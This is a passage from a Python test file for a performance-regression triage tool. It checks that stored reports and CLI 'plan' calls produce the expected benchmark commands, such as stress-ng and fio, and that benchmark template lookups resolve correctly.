        store.put_record("hand@example", report, "test")
    done = _triage_plan("<hand@example>", "--db", str(database), "--json")
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert data["message_id"] == "hand@example" and data["argv"][:3] == ["stress-ng", "--fiemap", "2"]
    assert data["reported_change_percent"] == -15.8


def test_triage_plan_through_the_cli():
    done = subprocess.run([sys.executable, "-m", "triagebot.cli", "plan", "--command", "fio --name x", "--json"],
                          capture_output=True, text=True, cwd=PROJECT, timeout=60)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["kind"] == "plan"


def test_templates_object_lookups():
    assert isinstance(TEMPLATES, Templates)
    assert TEMPLATES.for_testcase("fio-basic").name == "fio"
    assert TEMPLATES.for_testcase("fsmark").name == "fs_mark"
    assert TEMPLATES.for_testcase("aim7") is None
    assert {template.name for template in TEMPLATES.for_program("sysbench")} == {
        "sysbench-fileio", "sysbench-cpu", "sysbench-memory", "sysbench-threads"}
